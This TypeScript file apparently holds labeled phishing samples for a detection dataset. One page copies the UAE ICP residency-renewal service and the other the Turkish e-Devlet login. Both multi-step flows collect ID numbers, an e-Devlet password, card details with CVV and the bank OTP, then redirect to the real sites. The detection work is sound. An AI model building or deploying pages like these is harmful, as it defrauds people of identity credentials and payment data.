import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, pct } from '../parts/yl-kit.js';

export const entries: Entry[] = [
{
  id: 'yl-icp-residency-renewal-fee',
  label: 'phishing',
  kind: 'gov-visa-kit',
  url: 'https://icp-gov-ae-services.com/en/residency/renew',
  body: doc({
    title: 'ICP Smart Services - Residency Renewal',
    css: cardCss({ bg: '#f5f3ef', primary: '#9c7a3c', radius: 4, width: 560 }) + `.hd{background:#fff;padding:12px 26px;border-bottom:2px solid #9c7a3c;display:flex;gap:14px;align-items:center}.hd div{font-size:12px;color:#555;line-height:1.4}
.steps{display:flex;gap:6px;margin-bottom:18px}.steps span{flex:1;height:4px;background:#e2d9c7;border-radius:2px}.steps span.on{background:#9c7a3c}.fee{display:flex;justify-content:space-between;border-top:1px solid #eee;padding:8px 0;font-size:14px}`,
    body: `<div class="hd">${wordmark('ICP', '#9c7a3c', { size: 30 })}<div>Federal Authority for Identity, Citizenship,<br>Customs &amp; Port Security</div></div>
<div class="wrap"><div class="card"><div class="steps"><span class="on"></span><span></span><span></span></div>
<div class="step on"><h1>Residency renewal</h1><p class="sub">Our records show your residence permit is due for renewal. Late renewal incurs a fine of AED 50 per day.</p>
<form><div class="f"><label>Emirates ID number</label><input name="eid" required></div><div class="f"><label>Passport number</label><input name="passport" required></div><div class="f"><label>Date of birth</label><input name="dob" type="date" required></div><div class="f"><label>Mobile</label><input name="mobile" required></div><button class="btn">Next</button></form></div>
<div class="step"><h1>Fees</h1><div class="fee"><span>Residency renewal (1 year)</span><span>AED 100</span></div><div class="fee"><span>Emirates ID renewal</span><span>AED 170</span></div><div class="fee"><span>Smart services fee</span><span>AED 40</span></div><div class="fee"><b>Total</b><b>AED 310</b></div>
<form>${cardFields({ name: 'Cardholder', number: 'Card number', exp: 'Expiry', cvv: 'CVV' })}<button class="btn">Pay AED 310</button></form></div>
<div class="step"><h1>Confirm payment</h1><p class="sub">Enter the OTP sent by your bank.</p><form>${otpBoxes()}<button class="btn">Confirm</button></form></div>
</div><footer>© Federal Authority for Identity, Citizenship, Customs &amp; Port Security</footer></div>
<script>${cardMaskJs}${otpJs}
document.querySelectorAll('.step form').forEach(function(f,i){f.addEventListener('submit',function(){var s=document.querySelectorAll('.steps span');if(s[i+1])s[i+1].classList.add('on')})});</script>
${stepFlow({ send: sendJson('/en/residency/api.php'), finalUrl: 'https://icp.gov.ae/en/' })}`,
  }),
  routes: { 'icp-gov-ae-services.com/en/residency/api.php': json({ success: 1 }) },
},
{
  id: 'yl-edevlet-fatura-iadesi',
  label: 'phishing',
  kind: 'gov-portal-kit',
  url: 'https://turkiye-gov-iade.com/giris?hizmet=elektrik-iade',
  body: doc({
    title: 'e-Devlet Kapısı Kimlik Doğrulama Sistemi',
    lang: 'tr',
    css: cardCss({ bg: '#eef0f3', primary: '#c8102e', radius: 3, width: 480 }) + `.hd{background:#c8102e;color:#fff;padding:10px 22px;display:flex;align-items:center;gap:10px}.hd small{opacity:.85}.tabs{display:flex;border-bottom:1px solid #ddd;margin-bottom:16px;font-size:13px}.tabs span{padding:9px 12px;color:#666}.tabs span.on{border-bottom:3px solid #c8102e;color:#222;font-weight:600}
.box{background:#f7f7f7;padding:12px;border-radius:3px;font-size:13px;margin-bottom:14px;line-height:1.6}.box b{color:#0a7b34;font-size:18px}`,
    body: `<div class="hd">${wordmark('e-Devlet', '#fff', { size: 22 })}<small>türkiye.gov.tr</small></div>
<div class="wrap"><div class="card">
<div class="step on"><div class="tabs"><span class="on">e-Devlet Şifresi</span><span>Mobil İmza</span><span>Elektronik İmza</span><span>İnternet Bankacılığı</span></div>
<div class="box">Elektrik Faturası Fazla Ödeme İadesi: <b>1.240,60 TL</b><br>İade başvurunuzu tamamlamak için kimlik doğrulaması yapınız.</div>
<form><div class="f"><label>T.C. Kimlik No</label><input name="tckn" maxlength="11" inputmode="numeric" required></div><div class="f"><label>e-Devlet Şifresi</label><input name="sifre" type="password" required></div><button class="btn">Giriş Yap</button></form></div>
<div class="step"><h1>İade hesabı</h1><p class="sub">İade tutarının yatırılacağı banka kartı bilgilerini giriniz.</p><form>${cardFields({ name: 'Kart üzerindeki isim', number: 'Kart numarası', exp: 'Son kullanma', cvv: 'Güvenlik kodu' })}<button class="btn">İadeyi Başlat</button></form></div>
<div class="step"><h1>SMS doğrulama</h1><p class="sub">Bankanız tarafından gönderilen doğrulama kodunu giriniz.</p><form>${otpBoxes()}<button class="btn">Onayla</button></form></div>
</div><footer>T.C. Cumhurbaşkanlığı Dijital Dönüşüm Ofisi</footer></div>
<script>${cardMaskJs}${otpJs}</script>
${stepFlow({ send: sendXhr('/islem.php'), finalUrl: 'https://www.turkiye.gov.tr/' })}`,
  }),
  routes: { 'turkiye-gov-iade.com/islem.php': json({ sonuc: true }) },
},
];
